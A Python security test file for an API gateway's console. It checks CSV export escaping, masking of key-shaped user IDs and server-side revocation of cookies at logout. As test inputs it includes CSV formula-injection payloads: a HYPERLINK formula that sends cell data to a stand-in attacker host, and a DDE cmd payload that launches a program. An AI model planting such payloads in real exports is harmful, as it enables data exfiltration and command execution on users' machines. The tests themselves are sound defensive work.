"""What a caller can plant in the console, and what a copied cookie is worth (issue 22, item 6), replayed
over raw sockets against a gateway with a SQLite spend store."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import orjson

from anyray.console.data import csv_cell
from anyray.store import open_store
from tests.console.conftest import console_config
from tests.console.test_login import COOKIE, create_key
from tests.security.wire import Answers, connect
from tests.spend.conftest import wait_written

UPSTREAM_LIKE_KEY = "sk-ant-api03-pasted-into-user-id-0123456789abcdef"


def _request(gw, raw: bytes) -> tuple[int, dict[bytes, bytes], bytes]:
    with connect(gw.server, timeout=10) as sock:
        sock.sendall(raw)
        [answer] = Answers(sock).read()
    return answer


def _post_message(gw, metadata: dict, body_extra: dict) -> int:
    body = orjson.dumps({"model": "claude-haiku-4-5", "max_tokens": 10,
                         "messages": [{"role": "user", "content": "hi"}], **body_extra})
    head = (b"POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
            b"anthropic-version: 2023-06-01\r\nx-anyray-metadata: %s\r\ncontent-length: %d\r\n\r\n")
    status, _, _ = _request(gw, head % (orjson.dumps(metadata), len(body)) + body)
    return status


def test_csv_exports_neutralise_formulas_a_caller_planted(fake, sa_key_file, start_gateway, sqlite_url):
    gw = start_gateway(console_config(fake, sa_key_file, sqlite_url))
    planted = {"team": '=HYPERLINK("http://evil.example/?"&A1,"open")', "app": "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert _post_message(gw, planted, {}) == 200
    assert _post_message(gw, {"team": "-2+3", "app": "plain"}, {}) == 200
    wait_written(gw, 2)
    cells: dict[str, list[str]] = {}
    for group in ("team", "app"):
        target = b"/console/tables/%s.csv" % group.encode()
        status, headers, body = _request(gw, b"GET %s HTTP/1.1\r\nhost: x\r\n\r\n" % target)
        assert status == 200 and headers[b"content-type"].startswith(b"text/csv")
        cells[group] = [row[0] for row in csv.reader(io.StringIO(body.decode()))][1:]
    assert "'" + planted["team"] in cells["team"] and "'-2+3" in cells["team"]
    assert "'" + planted["app"] in cells["app"] and "plain" in cells["app"]
    assert not [c for cs in cells.values() for c in cs if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_every_formula_start_that_owasp_names_is_neutralised():
    for text in ("=1+1", "+1", "-1+1", "@A1", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert [csv_cell(v) for v in ("search", "-1", "-2.5", 7, "")] == ["search", "-1", "-2.5", 7, ""]


def test_a_key_shaped_user_id_is_stored_masked(fake, sa_key_file, start_gateway, sqlite_url):
    gw = start_gateway(console_config(fake, sa_key_file, sqlite_url))
    assert _post_message(gw, {"team": "t"}, {"metadata": {"user_id": UPSTREAM_LIKE_KEY}}) == 200
    assert _post_message(gw, {"team": "t"}, {"metadata": {"user_id": "user_ab_account__session_s-1"}}) == 200
    wait_written(gw, 2)
    gw.server.stop()
    store = open_store(sqlite_url)
    try:
        sessions = sorted(r["tags"].get("session") for r in store.fetch())
    finally:
        store.close()
    assert sessions == ["s-1", "sk-ant-***"]


def test_logging_out_revokes_the_session_cookie_on_the_server(fake, sa_key_file, start_gateway, sqlite_url):
    admin = create_key(sqlite_url, "platform", admin=True)
    config = console_config(fake, sa_key_file, sqlite_url)
    config["auth"] = {"refresh_s": 0.2}
    gw = start_gateway(config)
    form = b"key=" + quote(admin["secret"]).encode()
    status, headers, _ = _request(gw, b"POST /console/login HTTP/1.1\r\nhost: x\r\ncontent-type: application/"
                                      b"x-www-form-urlencoded\r\ncontent-length: %d\r\n\r\n%s" % (len(form), form))
    assert status == 303
    cookie = headers[b"set-cookie"].split(b";")[0]
    assert cookie.startswith(COOKIE.encode() + b"=")
    page = b"GET /console/ HTTP/1.1\r\nhost: x\r\ncookie: %s\r\n\r\n" % cookie
    assert _request(gw, page)[0] == 200
    status, headers, _ = _request(gw, b"POST /console/logout HTTP/1.1\r\nhost: x\r\ncookie: %s\r\n"
                                      b"content-length: 0\r\n\r\n" % cookie)
    assert status == 303
    status, headers, _ = _request(gw, page)  # the same cookie, kept by whoever copied it
    assert status == 303 and headers[b"location"].endswith(b"/console/login")
